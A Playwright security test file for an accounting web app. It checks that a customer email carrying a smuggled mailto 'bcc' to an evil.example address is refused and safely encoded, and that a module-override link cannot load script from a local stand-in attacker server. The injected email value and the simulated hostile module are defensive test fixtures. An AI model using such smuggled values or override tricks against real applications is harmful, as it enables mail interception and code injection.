import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { Page } from '@playwright/test';
import { expect, test } from '../../fixtures/test.ts';
import { inFullTier } from '../../fixtures/tier.ts';
import { customersList } from '../../pages/customers.page.ts';

const ADDRESS = 'kim@bluegum.example';
const HOSTILE = 'kim@bluegum.example?bcc=boss%40evil.example&body=pay';

/** Address that the browser opens after a click, also in another program. */
async function addressAfter(page: Page, click: () => Promise<void>): Promise<URL> {
  const session = await page.context().newCDPSession(page);
  await session.send('Page.enable');
  const asked = new Promise<URL>((resolve) => {
    session.on('Page.frameRequestedNavigation', ({ url }) => resolve(new URL(url)));
  });
  await click();
  const address = await asked;
  await session.detach();
  return address;
}

test('a mail link carries no other recipients and no text', async ({ api, admin, adminPage: page }) => {
  const refused = await api.ask('POST', '/rest/v1/customers', { name: 'Eve', email: HOSTILE }, admin.session);
  expect(refused.status).toBe(400);
  const [customer] = await api.insert<{ readonly id: string }>(
    'customers',
    [{ name: 'Kim', email: ADDRESS }],
    admin.session,
  );
  // Simulates a backend that accepted such an address earlier.
  await page.route('**/rest/v1/customer*', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replaceAll(ADDRESS, HOSTILE) });
  });
  await page.goto(`/accounting/customers/${customer?.id}`);
  const opened = await addressAfter(page, () => page.getByRole('link', { name: HOSTILE }).first().click());
  expect([opened.protocol, opened.search]).toEqual(['mailto:', '']);
  expect(decodeURIComponent(opened.pathname)).toBe(HOSTILE);

  // The navigation that a click on the raw address would cause.
  await page.evaluate((href) => {
    const link = document.createElement('a');
    Object.assign(link, { href, textContent: 'unencoded' });
    document.querySelector('main')?.prepend(link);
  }, `mailto:${HOSTILE}`);
  const careless = await addressAfter(page, () => page.getByText('unencoded').click());
  expect(careless.searchParams.get('bcc')).toBe('boss@evil.example');
});

/** An attacker's server that would serve a module, and the requests it received. */
async function foreignServer(): Promise<{ server: Server; url: string; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    response.end('window.isTaken = true;');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('No port was given.');
  return { server, url: `http://127.0.0.1:${address.port}/`, asked };
}

test('a link cannot replace a module by a stranger’s', inFullTier, async ({ api, admin, openAs }) => {
  const { server, url, asked } = await foreignServer();
  const link = `/accounting/customers?module=accounting@${url}`;
  try {
    const banner = (page: Page) => page.getByRole('region', { name: 'Module override' });
    for (const account of [await api.join(admin, 'viewer'), admin]) {
      const page = await openAs(account);
      await page.goto(link);
      await expect(customersList(page).heading).toBeVisible();
      await expect(banner(page)).toHaveCount(0);
    }

    // Setting it in the tab directly runs nothing: the operator lists no such origin.
    const careless = await openAs(admin, { bypassCSP: true });
    await careless.addInitScript(([key, value]) => sessionStorage.setItem(key, value), [
      'ledgerwise.module-override',
      `accounting@${url}`,
    ] as const);
    await careless.goto('/accounting/customers');
    await expect(customersList(careless).heading).toBeVisible();
    await expect(banner(careless)).toHaveCount(0);
    await careless.goto('/diagnostics/versions');
    await expect(careless.getByText('OVERRIDE_ORIGINS')).toBeVisible();
    expect(await careless.evaluate(() => 'isTaken' in window)).toBe(false);

    // Code that runs in the page already cannot load code from there either.
    const page = await openAs(admin);
    await page.goto('/accounting/customers');
    await expect(customersList(page).heading).toBeVisible();
    const refused = await page.evaluate((address) => {
      const script = document.createElement('script');
      try {
        script.src = address;
      } catch (error) {
        return String(error);
      }
      return '';
    }, `${url}entry.js`);
    expect(refused).toContain('the registry does not name it');
    expect(asked).toEqual([]);
  } finally {
    server.close();
    server.closeAllConnections();
  }
});
